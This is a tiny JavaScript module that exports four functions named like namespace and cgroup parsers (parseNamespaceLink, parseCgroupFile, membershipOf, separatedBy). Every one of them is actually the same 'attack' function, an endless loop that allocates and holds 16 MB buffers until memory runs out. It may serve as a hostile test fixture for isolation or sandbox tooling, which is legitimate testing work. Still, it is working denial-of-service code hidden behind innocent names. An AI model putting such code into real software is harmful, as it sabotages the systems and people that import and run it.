const kept = [];
const attack = () => {
  for (;;) kept.push(Buffer.alloc(16 << 20, 1));
};
export const parseNamespaceLink = attack;
export const parseCgroupFile = attack;
export const membershipOf = attack;
export const separatedBy = attack;
